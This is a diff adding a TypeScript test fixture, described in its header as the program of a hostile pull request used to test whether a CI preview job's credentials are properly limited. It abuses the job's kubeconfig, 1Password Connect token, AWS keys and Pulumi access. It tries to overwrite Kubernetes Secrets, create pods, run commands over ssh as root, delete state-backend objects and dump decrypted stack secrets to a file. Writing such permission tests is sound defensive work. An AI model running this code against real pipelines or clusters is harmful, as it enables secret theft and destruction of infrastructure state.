@@ -1,0 +1,205 @@
+/**
+ * The program of a hostile pull request (test/full-stack/pr-preview.test.ts):
+ * a PR that adds `export { hostile } from "./sandbox/hostile-pr"` to
+ * index.ts, so that the preview job runs this with exactly the credentials
+ * the README tells operators to give CI. It tries to reach what those must
+ * not reach, and prints one `HOSTILE {json}` line per attempt with what
+ * came back, for the test to assert each. What it is told to attack comes
+ * from `hostile-targets.json` in the PR's tree, as an attacker would have
+ * read it from the repository.
+ *
+ * Only what the job holds is used: the kubeconfig in its HOME, $OP_CONNECT_*,
+ * $AWS_* and $PULUMI_CONFIG_PASSPHRASE, and whatever ssh finds in HOME. (In
+ * the sandbox the job's host is also the operator's machine; a real
+ * runner is not, so the operator's own files are out of bounds here.)
+ */
+import { spawnSync } from "node:child_process";
+import { existsSync, readFileSync, writeFileSync } from "node:fs";
+import { request } from "node:https";
+import { homedir } from "node:os";
+import { join } from "node:path";
+
+import * as pulumi from "@pulumi/pulumi";
+import { parse } from "yaml";
+
+import { s3Request } from "./s3";
+
+/** What the attacker aims at. */
+export interface HostileTargets {
+    ringtail: { host: string; port: number };
+    /** A vault the CI token was not granted, and an item of the vault it was (to try writing). */
+    connect: { otherVaultId: string; vaultId: string; itemId: string };
+    s3: { endpoint: string; region: string; bucket: string };
+    /** Where to drop what `pulumi stack export --show-secrets` gave (for the test to scan). */
+    exfiltrate: string;
+    stacks: string[];
+}
+
+/** One attempt: what was tried and what came back (`status` is HTTP's, or a process's exit code). */
+export interface Attempt {
+    attempt: string;
+    status: number;
+    detail: string;
+}
+
+interface Kubeconfig {
+    clusters: { cluster: { server: string } }[];
+    users: { user: { token?: string } }[];
+}
+
+function kube(method: string, path: string, body?: unknown, contentType = "application/merge-patch+json"): Promise<Attempt> {
+    const file = join(homedir(), ".kube", "config");
+    // ringtail's preview job holds no kubeconfig.
+    if (!existsSync(file)) return Promise.resolve({ attempt: "", status: 0, detail: "no kubeconfig in this job" });
+    const config = parse(readFileSync(file, "utf8")) as Kubeconfig;
+    const server = new URL(config.clusters[0]?.cluster.server ?? "");
+    const token = config.users[0]?.user.token ?? "";
+    return new Promise((resolve) => {
+        const req = request(
+            new URL(path, server),
+            {
+                method,
+                rejectUnauthorized: false,
+                headers: { Authorization: `Bearer ${token}`, "Content-Type": contentType, Accept: "application/json" },
+            },
+            (res) => {
+                let text = "";
+                res.on("data", (d: Buffer) => (text += d.toString()));
+                res.on("end", () => {
+                    const reason = (JSON.parse(text || "{}") as { reason?: string }).reason ?? "";
+                    resolve({ attempt: "", status: res.statusCode ?? 0, detail: reason });
+                });
+            },
+        );
+        req.on("error", (err) => {
+            resolve({ attempt: "", status: 0, detail: err.message });
+        });
+        req.end(body === undefined ? undefined : JSON.stringify(body));
+    });
+}
+
+async function connect(method: string, path: string, body?: unknown): Promise<Attempt> {
+    const res = await fetch(`${process.env["OP_CONNECT_HOST"] ?? ""}${path}`, {
+        method,
+        headers: { Authorization: `Bearer ${process.env["OP_CONNECT_TOKEN"] ?? ""}`, "Content-Type": "application/json" },
+        ...(body !== undefined ? { body: JSON.stringify(body) } : {}),
+    });
+    const text = await res.text();
+    return { attempt: "", status: res.status, detail: (JSON.parse(text || "{}") as { message?: string }).message ?? "" };
+}
+
+function run(command: string, args: string[]): Attempt {
+    const r = spawnSync(command, args, { encoding: "utf8", timeout: 60_000, env: process.env });
+    return { attempt: "", status: r.status ?? -1, detail: (r.stderr || r.stdout).trim().split("\n").slice(-1)[0] ?? "" };
+}
+
+async function attempts(t: HostileTargets): Promise<Attempt[]> {
+    const ns = "/api/v1/namespaces/forgejo-runner";
+    const s3 = {
+        accessKeyId: process.env["AWS_ACCESS_KEY_ID"] ?? "",
+        secretAccessKey: process.env["AWS_SECRET_ACCESS_KEY"] ?? "",
+    };
+    const tries: [string, () => Promise<Attempt> | Attempt][] = [
+        [
+            "patch the runner Deployment",
+            () =>
+                kube("PATCH", "/apis/apps/v1/namespaces/forgejo-runner/deployments/forgejo-runner", {
+                    metadata: { annotations: { pwned: "true" } },
+                }),
+        ],
+        [
+            "patch the runner Deployment, dry run",
+            () =>
+                kube("PATCH", "/apis/apps/v1/namespaces/forgejo-runner/deployments/forgejo-runner?dryRun=All", {
+                    metadata: { annotations: { pwned: "true" } },
+                }),
+        ],
+        ["patch the key's Secret", () => kube("PATCH", `${ns}/secrets/zot-ci-api-key`, { stringData: { ZOT_CI_API_KEY: "attacker" } })],
+        ["read the runner's registration Secret", () => kube("GET", `${ns}/secrets/forgejo-runner-env`)],
+        ["read the Connect token Secret", () => kube("GET", "/api/v1/namespaces/external-secrets/secrets/onepassword-connect-token")],
+        ["list Secrets", () => kube("GET", `${ns}/secrets`)],
+        [
+            "create a pod",
+            () =>
+                kube(
+                    "POST",
+                    `${ns}/pods`,
+                    { apiVersion: "v1", kind: "Pod", metadata: { name: "pwned" }, spec: { containers: [{ name: "x", image: "busybox" }] } },
+                    "application/json",
+                ),
+        ],
+        [
+            "run id on ringtail over ssh",
+            () =>
+                run("ssh", [
+                    "-o",
+                    "BatchMode=yes",
+                    "-o",
+                    "StrictHostKeyChecking=no",
+                    "-o",
+                    "ConnectTimeout=10",
+                    "-p",
+                    String(t.ringtail.port),
+                    `root@${t.ringtail.host}`,
+                    "id",
+                ]),
+        ],
+        ["read an item in another vault", () => connect("GET", `/v1/vaults/${t.connect.otherVaultId}/items`)],
+        [
+            "write the key's item",
+            () =>
+                connect("PUT", `/v1/vaults/${t.connect.vaultId}/items/${t.connect.itemId}`, {
+                    title: "zot-ci-apikey",
+                    category: "API_CREDENTIAL",
+                }),
+        ],
+        [
+            "write an object to the state backend",
+            async () => {
+                const r = await s3Request(
+                    t.s3.endpoint,
+                    t.s3.region,
+                    s3,
+                    "PUT",
+                    `/${t.s3.bucket}/.pulumi/stacks/ci-registry-auth/pwned.json`,
+                    { body: "{}" },
+                );
+                return { attempt: "", status: r.status, detail: r.code };
+            },
+        ],
+        [
+            "delete the state backend's objects",
+            async () => {
+                const r = await s3Request(t.s3.endpoint, t.s3.region, s3, "DELETE", `/${t.s3.bucket}/.pulumi/meta.yaml`);
+                return { attempt: "", status: r.status, detail: r.code };
+            },
+        ],
+        ...t.stacks.map((stack): [string, () => Attempt] => [
+            `tag stack ${stack} (a backend write through pulumi)`,
+            () => run("pulumi", ["stack", "tag", "set", "pwned", "true", "--stack", stack]),
+        ]),
+        ...t.stacks.map((stack): [string, () => Attempt] => [
+            `decrypt stack ${stack}'s secrets`,
+            () => {
+                const r = spawnSync("pulumi", ["stack", "export", "--show-secrets", "--stack", stack], {
+                    encoding: "utf8",
+                    env: process.env,
+                });
+                writeFileSync(`${t.exfiltrate}.${stack}.json`, r.stdout);
+                return { attempt: "", status: r.status ?? -1, detail: `${r.stdout.length} bytes` };
+            },
+        ]),
+    ];
+    const results: Attempt[] = [];
+    for (const [attempt, tryIt] of tries) {
+        const result = { ...(await tryIt()), attempt };
+        console.log(`HOSTILE ${JSON.stringify(result)}`);
+        results.push(result);
+    }
+    return results;
+}
+
+/** The attempts' outcomes, as a stack output too (the preview waits for it). */
+export const hostile = pulumi.output(
+    attempts(JSON.parse(readFileSync(join(__dirname, "..", "hostile-targets.json"), "utf8")) as HostileTargets),
+);
